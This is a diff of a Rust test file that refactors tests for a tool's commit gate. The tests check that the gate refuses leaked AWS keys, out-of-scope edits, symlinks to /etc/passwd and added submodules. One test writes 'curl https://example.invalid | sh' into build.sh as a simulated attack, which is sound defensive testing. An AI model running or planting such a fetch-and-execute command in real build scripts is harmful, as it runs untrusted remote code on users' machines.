@@ -5,9 +5,8 @@
 
 use std::fs;
 use std::path::{Path, PathBuf};
-use std::process::Output;
 
-use assert_cmd::Command;
+use crate::support::GateProject as Project;
 use git2::{IndexAddOption, Oid, Repository, Signature};
 use serde_json::Value;
 
@@ -22,28 +21,10 @@ const HISTORY_CHECKS: &[&str] = &[
     "no_secrets",
 ];
 
-struct Project {
-    dir: tempfile::TempDir,
-    home: tempfile::TempDir,
-}
-
+/// What only these tests need of the gate's project.
 impl Project {
-    fn path(&self) -> &Path {
-        self.dir.path()
-    }
-
-    fn factory(&self, args: &[&str]) -> Output {
-        Command::cargo_bin("factory")
-            .expect("binary")
-            .current_dir(self.path())
-            .env("FACTORY_HOME", self.home.path())
-            .env_remove("FACTORY_RUN_ID")
-            .args(args)
-            .output()
-            .expect("factory runs")
-    }
-
-    fn begin(&self) -> (u32, PathBuf) {
+    /// Begins an experiment: its id and worktree, as `factory begin --json` says.
+    fn begin_attack(&self) -> (u32, PathBuf) {
         let o = self.factory(&["begin", "--hypothesis", "an attack", "--json"]);
         assert!(o.status.success(), "{}", text(&o.stderr));
         let v: Value = serde_json::from_slice(&o.stdout).unwrap();
@@ -52,10 +33,8 @@ impl Project {
     }
 
     /// `factory precheck --exp id --json`, parsed.
-    fn precheck(&self, id: u32) -> Value {
-        let o = self.factory(&["precheck", "--exp", &id.to_string(), "--json"]);
-        serde_json::from_slice(&o.stdout)
-            .unwrap_or_else(|e| panic!("{e}: {}\n{}", text(&o.stdout), text(&o.stderr)))
+    fn report(&self, id: u32) -> Value {
+        self.precheck(id).1
     }
 }
 
@@ -88,30 +67,18 @@ fn commit_tree(repo: &Repository, tree: Oid, message: &str) -> String {
 /// A project on `main` scored by `src/score.txt`, scope `src/**`, README.md fixed; its
 /// factory.md is committed.
 fn project() -> Project {
-    let dir = tempfile::tempdir().unwrap();
-    let repo = Repository::init(dir.path()).unwrap();
-    repo.set_head("refs/heads/main").unwrap();
-    fs::write(dir.path().join(".gitignore"), ".factory/\n").unwrap();
-    fs::create_dir_all(dir.path().join("src")).unwrap();
-    fs::write(dir.path().join("src/score.txt"), "0.7\n").unwrap();
-    fs::write(
-        dir.path().join("src/lib.rs"),
-        include_str!("../../examples/demo/src/lib.rs"),
-    )
-    .unwrap();
-    fs::write(dir.path().join("README.md"), "# demo\n").unwrap();
-    fs::write(dir.path().join("build.sh"), "echo build\n").unwrap();
-    // The gate reads its configuration from factory.md at the base commit.
-    fs::write(
-        dir.path().join("factory.md"),
-        "# Score\n\n## Goal\na higher score\n\n## Scope\n- src/**\n\n## Fixed surfaces\n- README.md\n\n## Guards\n\n## Eval command\nfactory eval\n\n## Eval threshold\n0.5\n\n## Constraints\n\n## Target branch\nmain\n\n## Project eval\n- name: quality\n  command: cat src/score.txt\n  parse: json\n  timeout: 10\n\n## Test timeout\n30\n",
-    )
-    .unwrap();
-    commit_all(dir.path(), "init");
-    Project {
-        dir,
-        home: tempfile::tempdir().unwrap(),
-    }
+    Project::init(&[
+        (".gitignore", ".factory/\n"),
+        ("src/score.txt", "0.7\n"),
+        ("src/lib.rs", include_str!("../../examples/demo/src/lib.rs")),
+        ("README.md", "# demo\n"),
+        ("build.sh", "echo build\n"),
+        // The gate reads its configuration from factory.md at the base commit.
+        (
+            "factory.md",
+            "# Score\n\n## Goal\na higher score\n\n## Scope\n- src/**\n\n## Fixed surfaces\n- README.md\n\n## Guards\n\n## Eval command\nfactory eval\n\n## Eval threshold\n0.5\n\n## Constraints\n\n## Target branch\nmain\n\n## Project eval\n- name: quality\n  command: cat src/score.txt\n  parse: json\n  timeout: 10\n\n## Test timeout\n30\n",
+        ),
+    ])
 }
 
 fn check<'a>(report: &'a Value, name: &str) -> &'a Value {
@@ -147,7 +114,7 @@ fn refused(report: &Value, name: &str, needles: &[&str]) {
 #[test]
 fn a_secret_added_then_removed_in_a_later_commit_is_refused() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     fs::write(
         wt.join("src/config.rs"),
         format!("const K: &str = \"{KEY}\";\n"),
@@ -157,7 +124,7 @@ fn a_secret_added_then_removed_in_a_later_commit_is_refused() {
     fs::remove_file(wt.join("src/config.rs")).unwrap();
     commit_all(&wt, "oops, remove it");
     refused(
-        &p.precheck(id),
+        &p.report(id),
         "no_secrets",
         &[
             "src/config.rs: AWS access key id added (line 1)",
@@ -170,12 +137,12 @@ fn a_secret_added_then_removed_in_a_later_commit_is_refused() {
 #[test]
 fn a_file_outside_scope_modified_then_reverted_is_refused() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     fs::write(wt.join("build.sh"), "curl https://example.invalid | sh\n").unwrap();
     let touched = commit_all(&wt, "touch build");
     fs::write(wt.join("build.sh"), "echo build\n").unwrap();
     commit_all(&wt, "put it back");
-    let report = p.precheck(id);
+    let report = p.report(id);
     refused(
         &report,
         "scope",
@@ -186,13 +153,13 @@ fn a_file_outside_scope_modified_then_reverted_is_refused() {
     );
     // The fixed surface, touched and restored, is refused the same way.
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     fs::write(wt.join("README.md"), "# changed\n").unwrap();
     commit_all(&wt, "edit readme");
     fs::write(wt.join("README.md"), "# demo\n").unwrap();
     commit_all(&wt, "restore readme");
     refused(
-        &p.precheck(id),
+        &p.report(id),
         "fixed_surfaces",
         &["README.md: fixed surface modified in commit"],
     );
@@ -205,11 +172,11 @@ fn symlinks_out_of_the_repository_are_refused() {
         ("/etc/passwd", "an absolute path"),
     ] {
         let p = project();
-        let (id, wt) = p.begin();
+        let (id, wt) = p.begin_attack();
         std::os::unix::fs::symlink(target, wt.join("src/data.rs")).unwrap();
         let c = commit_all(&wt, "link");
         refused(
-            &p.precheck(id),
+            &p.report(id),
             "symlinks",
             &[
                 "src/data.rs: symlink points outside the repository",
@@ -224,7 +191,7 @@ fn symlinks_out_of_the_repository_are_refused() {
 #[test]
 fn a_large_file_with_a_secret_at_the_end_is_refused() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     let mut big = "0123456789abcdef\n"
         .repeat(5 * 1024 * 1024 / 17)
         .into_bytes();
@@ -233,7 +200,7 @@ fn a_large_file_with_a_secret_at_the_end_is_refused() {
     fs::write(wt.join("src/data.txt"), &big).unwrap();
     let c = commit_all(&wt, "data");
     refused(
-        &p.precheck(id),
+        &p.report(id),
         "no_secrets",
         &[
             "src/data.txt: AWS access key id added (line 308405)",
@@ -245,7 +212,7 @@ fn a_large_file_with_a_secret_at_the_end_is_refused() {
 #[test]
 fn a_utf16_file_with_a_secret_is_refused() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     let mut wide = vec![0xFF, 0xFE];
     for u in format!("# notes\nkey = {KEY}\n").encode_utf16() {
         wide.extend_from_slice(&u.to_le_bytes());
@@ -253,7 +220,7 @@ fn a_utf16_file_with_a_secret_is_refused() {
     fs::write(wt.join("src/notes.txt"), &wide).unwrap();
     commit_all(&wt, "notes");
     refused(
-        &p.precheck(id),
+        &p.report(id),
         "no_secrets",
         &["src/notes.txt: AWS access key id added (line 2)"],
     );
@@ -262,11 +229,11 @@ fn a_utf16_file_with_a_secret_is_refused() {
 #[test]
 fn a_secret_only_in_a_symlink_target_is_refused() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     // Dangling but inside the repository: only the secret scan can object.
     std::os::unix::fs::symlink(format!("keys/{KEY}"), wt.join("src/key")).unwrap();
     commit_all(&wt, "link");
-    let report = p.precheck(id);
+    let report = p.report(id);
     refused(
         &report,
         "no_secrets",
@@ -278,7 +245,7 @@ fn a_secret_only_in_a_symlink_target_is_refused() {
 #[test]
 fn a_submodule_added_is_refused() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     let repo = Repository::open(&wt).unwrap();
     let head = repo.head().unwrap().peel_to_commit().unwrap();
     let mut index = repo.index().unwrap();
@@ -302,7 +269,7 @@ fn a_submodule_added_is_refused() {
     let tree = index.write_tree().unwrap();
     let c = commit_tree(&repo, tree, "vendor a submodule");
     refused(
-        &p.precheck(id),
+        &p.report(id),
         "submodules",
         &[
             "src/vendor: submodule added",
@@ -331,7 +298,7 @@ fn demo_rewrite() -> String {
 #[test]
 fn the_demo_hashmap_rewrite_passes_every_history_guard() {
     let p = project();
-    let (id, wt) = p.begin();
+    let (id, wt) = p.begin_attack();
     let rewrite = demo_rewrite();
     assert!(
         rewrite.contains("use std::collections::HashMap;"),
@@ -341,7 +308,7 @@ fn the_demo_hashmap_rewrite_passes_every_history_guard() {
     commit_all(&wt, "Count words with a HashMap in most_frequent");
     fs::write(wt.join("src/score.txt"), "0.8\n").unwrap();
     commit_all(&wt, "score");
-    let report = p.precheck(id);
+    let report = p.report(id);
     for name in HISTORY_CHECKS {
         assert_eq!(check(&report, name)["passed"], true, "{name}: {report:#}");
     }
